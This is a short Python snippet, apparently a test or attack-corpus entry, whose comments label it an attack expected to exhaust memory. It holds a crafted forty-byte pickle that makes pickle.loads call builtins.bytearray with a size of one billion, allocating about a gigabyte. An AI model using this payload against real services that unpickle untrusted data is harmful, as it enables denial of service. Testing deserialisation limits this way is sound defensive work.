# attack: a pickle of forty bytes that makes an object of a gigabyte
# expect: exhausted memory
import pickle
pickle.loads(b"cbuiltins\nbytearray\n(I1000000000\ntR.")
